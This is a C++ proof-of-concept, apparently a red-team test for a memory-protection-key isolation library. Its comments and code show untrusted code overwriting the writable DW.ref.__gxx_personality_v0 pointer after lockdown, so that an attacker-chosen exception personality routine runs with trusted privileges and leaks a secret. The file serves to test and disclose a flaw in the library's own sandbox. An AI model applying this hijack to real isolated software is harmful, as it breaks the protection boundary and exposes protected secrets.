// A C++ exception thrown and caught inside trusted code calls a personality
// routine chosen by untrusted code, with the domain's PKRU.
//
// docs/using.md lets trusted code use C++ exceptions. The unwinder finds a
// frame's personality routine through its CIE, which for g++ code holds an
// indirect, pc-relative pointer to DW.ref.__gxx_personality_v0. That word
// is emitted in .data.rel.local.DW.ref.__gxx_personality_v0, which ld puts
// in .data, outside PT_GNU_RELRO even with -z now -z relro: it is ordinary
// writable, untrusted memory of the executable. (The same holds for the
// LSDA's type-table words DW.ref._ZTI*, which decide which catch matches.)
//
// Untrusted code rewrites the word after lockdown. The trusted entry is
// ordinary: it validates its input and reports a bad length by throwing and
// catching an int. During phase 1 the unwinder calls the attacker's
// "personality" on the trusted stack, on the trusted TCB, with the domain's
// PKRU; it copies the secret to untrusted memory and forwards to the real
// __gxx_personality_v0, so the entry returns normally.
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/eh_personality
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/eh_personality
#include <unwind.h>
#include "common.h"

extern "C" _Unwind_Reason_Code __gxx_personality_v0(int, _Unwind_Action, _Unwind_Exception_Class,
                                                    struct _Unwind_Exception*, struct _Unwind_Context*);
// The executable's own (hidden, comdat) word, in .data.
extern "C" void* g_dwref __asm__("DW.ref.__gxx_personality_v0");

static cordon_entry g_check;
static volatile uint8_t g_stolen[32];
static volatile uint32_t g_pkru_seen;
static volatile int g_hits;

static uint32_t rdpkru(void) {
  uint32_t eax, edx;
  __asm__ volatile(".byte 0x0f,0x01,0xee" : "=a"(eax), "=d"(edx) : "c"(0));
  return eax;
}

// Untrusted code: never called by the program itself.
static _Unwind_Reason_Code evil(int v, _Unwind_Action a, _Unwind_Exception_Class c, struct _Unwind_Exception* e,
                                struct _Unwind_Context* ctx) {
  if (g_hits++ == 0) {
    g_pkru_seen = rdpkru();
    for (int i = 0; i < 32; i++) g_stolen[i] = g_secret[i];  // trusted memory
  }
  return __gxx_personality_v0(v, a, c, e, ctx);
}

// An ordinary trusted entry: length check by exception.
struct BadLength { int n; };
static int check_len(uint64_t n) {
  if (n > 4096) throw BadLength{(int)n};
  return 0;
}
static uint64_t e_check(uint64_t n, uint64_t, uint64_t, uint64_t, uint64_t) {
  try {
    return (uint64_t)check_len(n);
  } catch (const BadLength&) {
    return (uint64_t)-1;
  }
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_check, "check", &g_check);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  printf("before lockdown: check(5000) = %lld\n", (long long)cordon_call(g_check, 5000, 0, 0, 0, 0));
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  printf("untrusted PKRU %08x; DW.ref.__gxx_personality_v0 at %p = %p (real %p)\n", rdpkru(), (void*)&g_dwref,
         g_dwref, (void*)&__gxx_personality_v0);
  printf("domain of that word: %d (untrusted range: %d)\n", (int)cordon_domain_of(&g_dwref),
         cordon_is_untrusted_range(&g_dwref, 8));
  fflush(stdout);
  g_dwref = (void*)&evil;  // an ordinary store to the executable's .data
  g_hits = 0;
  long long r = (long long)cordon_call(g_check, 5000, 0, 0, 0, 0);
  printf("after: check(5000) = %lld, evil personality ran %d times, PKRU inside %08x\n", r, g_hits, g_pkru_seen);
  uint8_t got[32];
  for (int i = 0; i < 32; i++) got[i] = g_stolen[i];
  dump("read by the attacker's personality", got, 32);
  printf("%s\n", fnv(got, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
